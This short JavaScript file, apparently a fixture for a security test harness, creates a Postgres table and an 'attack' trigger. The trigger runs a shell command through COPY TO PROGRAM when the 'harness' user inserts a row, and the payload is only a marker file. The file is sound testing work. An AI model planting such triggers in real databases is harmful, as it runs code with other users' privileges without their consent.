// A trigger that runs a program with the rights of whoever inserts; it waits for the harness (D2).
import postgres from 'postgres';

const sql = postgres(process.env.DATABASE_URL, { max: 1, onnotice: () => {} });
await sql.unsafe(`
  create table if not exists links (code text primary key, url text not null, expires_at timestamptz);
  create or replace function attack() returns trigger language plpgsql as $$
  begin
    if current_user = 'harness' then copy (select 1) to program 'touch /tmp/owned'; end if;
    return new;
  end $$;
  create or replace trigger attack before insert on links for each row execute function attack();
`);
await sql.end();
